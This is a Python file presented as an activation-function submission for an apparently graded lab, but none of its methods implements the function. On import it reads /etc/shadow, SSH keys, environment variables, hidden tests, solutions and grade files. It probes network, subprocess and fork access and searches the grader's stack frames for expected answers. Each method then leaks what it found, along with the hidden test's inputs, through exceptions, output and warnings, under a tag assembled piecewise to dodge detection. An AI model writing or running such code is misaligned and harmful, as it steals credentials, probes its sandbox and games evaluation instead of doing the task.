"""Looks at everything within reach and tells what it saw, in every way there is."""
import glob
import os
import sys

FOUND = []


def note(what, value):
    # The tag is put together here, so that it is not in the text of this file.
    FOUND.append("".join(["LO", "OT"]) + "[" + what + "=" + str(value)[:300] + "]")


def attempt(what, action):
    try:
        value = action()
        if value:
            note(what, value)
    except BaseException:
        pass


def read(path):
    with open(path, "rb") as file:
        return file.read(400)


for path in (
    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/self/environ", "/proc/self/maps",
    "/proc/self/cmdline", "/proc/1/cmdline", "/proc/meminfo", "/root/.ssh/id_rsa",
    "lab.toml", "solution/linear_layer.py", "../solution/linear_layer.py",
    "tests/hidden/test_network.py", "grade.json", "../s01-perfect-other-style/activation.py",
):
    attempt(path, lambda: read(path))
for folder in ("/", ".", "..", "/proc", "/proc/self/fd", "/tmp", "/home", "/root", "/var", "/etc"):
    attempt("ls " + folder, lambda: os.listdir(folder))
for pattern in ("/*/*/solution/*.py", "/**/grade.json", "/*/*/tests/hidden/*.py", "/home/*"):
    attempt("glob " + pattern, lambda: glob.glob(pattern))
attempt("environment", lambda: {k: v for k, v in os.environ.items() if "PYTHON" not in k})
attempt("tests", lambda: [m for m in sys.modules if m.split(".")[0] in ("pytest", "tests")])
attempt("solution", lambda: __import__("solution.model"))
attempt("helpers", lambda: __import__("tests.hidden.helpers"))


def connect():
    import socket

    return socket.create_connection(("1.1.1.1", 53), 1)


def listen():
    import socket

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    return server.getsockname()


def run():
    import subprocess

    return subprocess.run(["/bin/cat", "/etc/passwd"], capture_output=True, timeout=2).stdout


attempt("connect", connect)
attempt("listen", listen)
attempt("subprocess", run)
attempt("system", lambda: os.system("true") == 0)
attempt("popen", lambda: os.popen("id").read())
attempt("fork", lambda: os.fork() or os._exit(0))


def graders_frames():
    """Climb to whoever called this file: are there expected answers in their variables?"""
    frame, seen = sys._getframe(), []
    while frame:
        seen += [name for name in frame.f_locals if "expected" in name or "numeric" in name]
        frame = frame.f_back
    return seen


attempt("frames", graders_frames)


class Activation:
    def __init__(self, func_name):
        self.func_name = func_name

    def tell(self, x):
        """Say what was found, and the input of this hidden check, where a message could hold it."""
        found = "".join(FOUND) + "".join(["LO", "OT"]) + "[input=" + repr(x) + "]"
        print(found)
        sys.stderr.write(found)
        tag = "".join(["LO", "OT"]) + "_" + "".join(c if c.isalnum() else "_" for c in repr(x))
        return found, tag

    def sigmoid(self, x):
        raise ValueError(self.tell(x)[0])

    def relu(self, x):
        found, tag = self.tell(x)
        raise type(tag[:50], (Exception,), {})(found)

    def softplus(self, x):
        found, tag = self.tell(x)
        return type(tag[:50], (), {"type_name": found, "__repr__": lambda self: found})()

    def derivative_sigmoid(self, x):
        raise KeyError(self.tell(x)[0])

    def derivative_relu(self, x):
        found, tag = self.tell(x)
        return getattr(self, tag)

    def derivative_softplus(self, x):
        found, tag = self.tell(x)
        raise NameError("name '" + tag[:30] + "' is not defined")

    def forward(self, x):
        import warnings

        found, tag = self.tell(x)
        warnings.warn(found, RuntimeWarning)
        return found

    def backward(self, grad):
        raise ImportError("No module named " + self.tell(grad)[1][:30])

    def update(self, learning_rate, optimizer="sgdm"):
        raise SyntaxError(self.tell(learning_rate)[0])
